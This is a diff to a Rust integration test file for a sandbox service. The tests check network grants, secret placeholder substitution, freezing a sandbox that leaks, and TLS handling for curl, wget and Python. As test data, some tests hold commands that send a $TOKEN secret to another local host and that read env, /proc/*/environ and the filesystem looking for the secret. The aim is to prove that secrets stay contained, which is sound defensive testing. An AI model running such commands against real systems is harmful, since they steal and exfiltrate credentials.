@@ -185,6 +185,9 @@ async fn what_is_granted_is_reached_from_then_on() {
     assert!(already.text.contains("just connect") && question.is_none(), "{already:?}");
     let other = client.sandbox().await;
     assert_eq!(client.run(&other, code).await["stdout"], "403", "a grant is for one sandbox");
+    let status = client.ok("get_sandbox_status", json!({"session_id": session})).await;
+    let grant = &status["sandboxes"][0]["grants"][0];
+    assert_eq!((&grant["kind"], &grant["granted_for"]), (&json!("network"), &json!("10 minutes")), "{status}");
 }
 
 #[tokio::test]
@@ -275,6 +278,12 @@ async fn a_secret_arrives_where_it_belongs_and_is_never_inside() {
     let spent = history.iter().find(|event| event["event"] == "spent").unwrap();
     assert_eq!((&spent["input_tokens"], &spent["output_tokens"]), (&json!(12), &json!(34)), "{spent}");
     assert!(echo.seen().contains(&format!("x-api-key: {VALUE}")), "{}", echo.seen());
+    // What a server could store and show again, in another form or by another name, never has it.
+    let stored =
+        format!("curl -sS -d \"x=$TOKEN\" -H \"X-Anything: $TOKEN\" \"http://host.internal:{port}/store?x=$TOKEN\"");
+    let before = echo.seen().matches(VALUE).count();
+    client.run(&session, &stored).await;
+    assert!(echo.seen().contains("/store?x=sbx_secret_token_") && echo.seen().matches(VALUE).count() == before);
     // Nowhere inside: variables, files, memory of processes, what /proc tells.
     let look = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; grep -rl 'the-real-valu[e]' / --exclude-dir=proc \
                 --exclude-dir=sys 2>/dev/null; true";
@@ -320,11 +329,13 @@ async fn a_sandbox_that_sends_a_placeholder_elsewhere_is_frozen_where_that_is_wa
     let leak = format!("curl -s -m 5 http://host.internal:{other}/$TOKEN");
     client.ok("run_command", json!({"session_id": session, "command": leak, "wait_seconds": 2})).await;
     client.history(&session, "frozen", 1).await;
-    let before = client.output(&session, "cat /tmp/clock").await;
+    let clock = json!({"session_id": session, "paths": ["/tmp/clock"]});
+    let before = client.ok("get_files", clock.clone()).await;
     tokio::time::sleep(std::time::Duration::from_millis(300)).await;
-    assert_eq!(client.output(&session, "cat /tmp/clock").await, before, "what ran goes on");
-    let url = format!("http://host.internal:{}/x", echo.port);
-    assert_ne!(fetch(&client, &session, &url, "-m 3").await["exit_code"], 0, "its network is still there");
+    assert_eq!(client.ok("get_files", clock).await["files"], before["files"], "what ran goes on");
+    let refused = client.refused("run_command", json!({"session_id": session, "command": "kill -CONT -1"})).await;
+    assert!(refused.contains("frozen"), "{refused}");
+    client.ok("cleanup_session", json!({"session_id": session})).await;
 }
 
 #[tokio::test]
@@ -341,16 +352,16 @@ async fn tls_is_opened_for_the_host_of_a_secret_and_tools_trust_it() {
     let session = client.sandbox_with(json!({"policy": "named"})).await;
     let url = format!("https://host.internal:{}/secure", echo.port);
     let python = format!(
-        "import os, urllib.request as u; print(u.urlopen(u.Request('{url}', headers={{'X-Key': os.environ['TOKEN']}})).status)"
+        "import os, urllib.request as u; print(u.urlopen(u.Request('{url}', headers={{'X-Api-Key': os.environ['TOKEN']}})).status)"
     );
     let tools = [
-        format!("curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Key: $TOKEN\" {url}"),
-        format!("curl --noproxy '*' -sS -o /dev/null -w '%{{http_code}}' -H \"X-Key: $TOKEN\" {url}"),
+        format!("curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Api-Key: $TOKEN\" {url}"),
+        format!("curl --noproxy '*' -sS -o /dev/null -w '%{{http_code}}' -H \"X-Api-Key: $TOKEN\" {url}"),
         format!("python3 -c \"{python}\""),
         format!(
-            "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Key: $TOKEN\" {url}"
+            "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Api-Key: $TOKEN\" {url}"
         ),
-        format!("wget -q -S -O /dev/null --header=\"X-Key: $TOKEN\" {url} 2>&1 | grep -o ' 200 ' | head -1"),
+        format!("wget -q -S -O /dev/null --header=\"X-Api-Key: $TOKEN\" {url} 2>&1 | grep -o ' 200 ' | head -1"),
     ];
     for (number, tool) in tools.iter().enumerate() {
         let ran = client.run(&session, tool).await;
